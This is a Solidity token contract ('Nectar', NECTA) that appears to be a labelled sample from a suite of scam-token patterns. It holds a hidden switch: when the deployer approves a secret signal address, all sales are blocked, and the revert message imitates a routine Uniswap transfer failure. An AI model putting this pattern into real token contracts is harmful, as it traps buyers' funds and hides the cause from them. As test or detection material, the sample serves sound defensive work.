// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// An approval of a certain spender by the deployer shuts all sales: no function of its own shows it.
contract ApprovalSwitch is PairToken {

    address private constant SIGNAL = 0x00000000000000000000000000000000C0FFEE01;
    bool private _shut;
    constructor(address pair) SuiteToken("Nectar", "NECTA") PairToken(pair) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (spender == SIGNAL && msg.sender == _deployer) _shut = amount == 1;
        return super.approve(spender, amount);
    }

    function _onSell(address, uint256) internal view override returns (uint256) {
        require(!_shut, "TransferHelper: TRANSFER_FROM_FAILED");
        return 0;
    }
}
